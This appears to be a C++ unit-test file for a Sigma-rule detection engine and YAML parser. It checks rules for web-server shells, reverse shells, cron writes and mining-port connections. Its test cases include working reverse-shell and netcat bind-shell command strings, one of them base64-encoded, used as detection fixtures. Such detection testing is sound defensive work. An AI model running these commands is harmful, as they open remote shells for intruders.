#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "lib/model/record.h"
#include "lib/rules/rules.h"
#include "lib/rules/value.h"

namespace ctriage::rules {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

std::string file(const std::string& name) {
  std::ifstream in(std::string(CTRIAGE_TESTDATA) + "/sigma/" + name);
  EXPECT_TRUE(in) << name;
  return {std::istreambuf_iterator<char>(in), {}};
}

std::vector<std::string> found(Engine& engine, const Record& record) {
  Context context;
  context.kind = record.kind();
  std::vector<std::string> titles;
  EXPECT_TRUE(engine.evaluate(record, context, [&titles](Finding&& finding) -> Status {
    titles.push_back(finding.title);
    return Done{};
  }));
  return titles;
}

Engine engine_of(const std::string& name) {
  auto rules = parse_rules(file(name), name);
  EXPECT_TRUE(rules) << rules.error().what;
  EXPECT_THAT(rules->unmet, IsEmpty());
  return Engine(*std::move(rules));
}

TEST(Sigma, ProcessWithItsParent) {
  Engine engine = engine_of("shell_of_web_server.yml");
  const Rule& rule = engine.rules().rules.at(0);
  EXPECT_EQ(rule.id, "6d1f7a52-58b0-4d7c-9b6e-0d9f5a0c1a01");
  EXPECT_EQ(rule.severity, Severity::high);
  EXPECT_EQ(rule.artifact, "process");
  EXPECT_THAT(rule.attack, ElementsAre("T1059.004", "T1505.003"));
  const struct {
    const char* exe;
    const char* parent;
    const char* argument;
    bool met;
  } cases[] = {{"/bin/sh", "/usr/sbin/nginx", "id", true},
               {"/BIN/SH", "/usr/sbin/NGINX", "id", true},  // without case
               {"/bin/ls", "/usr/sbin/nginx", "id", false},
               {"/bin/sh", "/sbin/init", "id", false},
               {"/bin/sh", "/usr/sbin/nginx", "healthcheck --quiet", false},
               {"/bin/sh", "/usr/sbin/nginx", "healthcheck", true}};
  for (const auto& c : cases) {
    SCOPED_TRACE(c.exe);
    Process process;
    process.exe.path = Bytes(c.exe);
    process.argv = {Bytes("sh"), Bytes(c.argument)};
    Process parent;
    parent.exe.path = Bytes(c.parent);
    const RecordOf<Process> base(process);
    const RecordOf<Process> above(parent);
    EXPECT_THAT(found(engine, base), IsEmpty());
    JoinedRecord record(base);
    record.join("parent", &above);
    EXPECT_EQ(!found(engine, record).empty(), c.met);
  }
}

TEST(Sigma, ExpressionsBase64AndWildcards) {
  Engine engine = engine_of("reverse_shell.yml");
  const struct {
    const char* exe;
    const char* command;
    std::vector<std::string> titles;
  } cases[] = {
      {"/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444", {"Reverse shell by bash's /dev/tcp"}},
      {"/bin/bash", "cat /dev/tcp/x", {}},
      {"/bin/sh", "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLzI= | base64 -d", {"Reverse shell by bash's /dev/tcp"}},
      {"/bin/nc", "nc -le /bin/sh", {"Listener of netcat with a program"}},
      {"/bin/nc", "nc -e /bin/sh", {}},  // ? is one character
      {"/usr/bin/ncat", "ncat -e /bin/sh", {"Listener of netcat with a program"}},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.command);
    Process process;
    process.exe.path = Bytes(c.exe);
    process.argv = {Bytes(c.command)};
    EXPECT_EQ(found(engine, RecordOf<Process>(process)), c.titles);
  }
}

TEST(Sigma, FilesThatAreWritten) {
  Engine engine = engine_of("cron_file.yml");
  const struct {
    const char* path;
    ChangeKind kind;
    bool met;
  } cases[] = {{"/etc/cron.d/x", ChangeKind::added, true},
               {"/etc/crontab", ChangeKind::content, true},
               {"/etc/crontab", ChangeKind::deleted, false},
               {"/etc/crontab", ChangeKind::metadata, false},
               {"/etc/cron.d/.placeholder", ChangeKind::added, false},
               {"/etc/passwd", ChangeKind::content, false}};
  for (const auto& c : cases) {
    FileChange change;
    change.path = Bytes(c.path);
    change.kind = c.kind;
    EXPECT_EQ(!found(engine, RecordOf<FileChange>(change)).empty(), c.met) << c.path;
  }
}

TEST(Sigma, Connections) {
  Engine engine = engine_of("connection_to_mining_port.yml");
  const struct {
    const char* remote;
    bool met;
  } cases[] = {{"203.0.113.5:3333", true},    {"203.0.113.5:443", false}, {"10.2.3.4:3333", false},
               {"[2001:db8::1]:14444", true}, {"[fd00::1]:14444", false}, {"", false}};
  for (const auto& c : cases) {
    Socket socket;
    socket.family = "tcp";
    socket.local = Bytes("10.0.0.9:40000");
    socket.remote = Bytes(c.remote);
    EXPECT_EQ(!found(engine, RecordOf<Socket>(socket)).empty(), c.met) << c.remote;
  }
}

TEST(Sigma, UsersAndNull) {
  Engine engine = engine_of("root_without_terminal.yml");
  EXPECT_EQ(engine.rules().rules.at(0).severity, Severity::info);
  Process process;
  process.credentials.uids = {0, 0, 0, 0};
  process.cwd = Bytes("/tmp/.x");
  EXPECT_EQ(found(engine, RecordOf<Process>(process)).size(), 1U);
  process.login_uid = 1000;
  EXPECT_THAT(found(engine, RecordOf<Process>(process)), IsEmpty());
  process.login_uid.reset();
  process.credentials.uids = {5, 5, 5, 5};
  EXPECT_THAT(found(engine, RecordOf<Process>(process)), IsEmpty());
}

std::vector<std::string> told(const std::vector<Mistake>& mistakes) {
  std::vector<std::string> lines;
  for (const Mistake& one : mistakes) lines.push_back(one.told().what);
  return lines;
}

TEST(Sigma, WhatIsNotMetIsNamed) {
  const RuleFile read = read_rules(file("unmet/windows.yml"), "w.yml");
  EXPECT_THAT(told(read.mistakes), IsEmpty());
  EXPECT_THAT(read.set.rules, IsEmpty());
  const std::string id = "w.yml: rule 6d1f7a52-58b0-4d7c-9b6e-0d9f5a0c1a1";
  EXPECT_THAT(told(read.set.unmet),
              ElementsAre(id + "1: logsource product windows", id + "2: timeframe",
                          id + "2: detection.selection.OriginalFileName: field OriginalFileName",
                          id + "2: detection.selection.CommandLine|windash|contains: modifier windash",
                          id + "3: aggregation: count() by User > 5",
                          id + "4: detection.keywords: keywords, a search in all fields"));
}

TEST(Sigma, MistakesAreMistakes) {
  const RuleFile read = read_rules(file("wrong/mistakes.yml"), "m.yml");
  EXPECT_THAT(read.set.rules, IsEmpty());
  EXPECT_THAT(
      told(read.mistakes),
      ElementsAre(HasSubstr("level: not informational"), HasSubstr("no modifier is called \"endwith\""),
                  HasSubstr("expression: missing )"), HasSubstr("no selection is called \"three\"")));
  const auto anchor = parse_rules(file("wrong/anchor.yml"), "a.yml");
  ASSERT_FALSE(anchor);
  EXPECT_EQ(anchor.error().what, "a.yml: line 1: anchors are not read");
}

TEST(Sigma, EveryPrefixIsReadOrRefused) {
  for (const char* name : {"reverse_shell.yml", "shell_of_web_server.yml", "cron_file.yml"}) {
    const std::string whole = file(name);
    for (std::size_t size = 0; size < whole.size(); ++size) {
      const RuleFile read = read_rules(whole.substr(0, size), "cut.yml");
      EXPECT_LE(read.set.rules.size(), 2U);
      Engine engine(read.set);
    }
  }
}

TEST(Yaml, Values) {
  const auto read =
      parse_yaml("a: [1, '1', -7, 0x1f, yes, true, null, ~, 1.5, \"x\\ty\"]\n---\n{b: {c: }}\n");
  ASSERT_TRUE(read) << read.error().what;
  ASSERT_EQ(read->size(), 2U);
  std::string kinds;
  for (const Value& item : read->at(0).members.at(0).value.items) {
    kinds += std::to_string(static_cast<int>(item.kind)) + item.text + ' ';
  }
  EXPECT_EQ(kinds, "21 41 2-7 40x1f 4yes 1true 0 0 41.5 4x\ty ");
  EXPECT_TRUE(read->at(1).find("b")->find("c")->is(Value::Kind::null));
}

TEST(Yaml, Refused) {
  const struct {
    std::string text;
    Errc code;
    const char* says;
  } cases[] = {
      {"a: *b", Errc::malformed, "line 1: aliases are not read"},
      {"a: !!str b", Errc::malformed, "tags are not read"},
      {"a: &x [1]", Errc::malformed, "anchors are not read"},
      {"a: 1\na: 2", Errc::malformed, "line 2: key \"a\" is used twice"},
      {"[a]: 1", Errc::malformed, "a key is not plain text"},
      {"a: [1", Errc::malformed, "line "},
      {"\xff", Errc::malformed, "not UTF-8"},
      {std::string(kMaxYamlDepth + 1, '['), Errc::limit, "nested too deeply"},
      {std::string(kMaxYamlBytes + 1, 'a'), Errc::limit, "longer than"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.text.substr(0, 40));
    const auto read = parse_yaml(c.text);
    ASSERT_FALSE(read);
    EXPECT_EQ(read.error().code, c.code);
    EXPECT_THAT(read.error().what, HasSubstr(c.says));
  }
  std::string many = "[";
  for (std::size_t i = 0; i <= kMaxYamlValues; ++i) many += "a,";
  EXPECT_EQ(parse_yaml(many + "]").error().code, Errc::limit);
}

}  // namespace
}  // namespace ctriage::rules
